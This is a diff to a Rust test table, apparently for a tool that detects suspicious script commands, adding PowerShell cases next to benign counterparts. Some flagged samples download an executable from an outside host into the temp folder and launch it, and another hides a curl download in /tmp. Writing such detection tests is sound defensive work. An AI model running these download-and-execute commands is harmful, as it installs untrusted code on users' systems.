@@ -143,6 +143,18 @@ const CASES: &[(&str, &str, &str, &str)] = &[
         "cp x /tmp/cache-x",
     ),
     (
+        "temp-launch",
+        "scripts/x.ps1",
+        "Start-Process \"$env:TEMP\\u.exe\"",
+        "Start-Process notepad.exe",
+    ),
+    (
+        "temp-download-run",
+        "scripts/x.ps1",
+        "Start-BitsTransfer -Source https://cdn.tools.io/u.exe -Destination $env:TEMP\\u.exe\nStart-Process \"$env:TEMP\\u.exe\"",
+        "Start-BitsTransfer -Source https://cdn.tools.io/data.csv -Destination $env:TEMP\\d.csv\nImport-Csv \"$env:TEMP\\d.csv\"",
+    ),
+    (
         "hidden-download",
         "scripts/x.sh",
         "curl -so /tmp/.u https://cdn.tools.io/u",
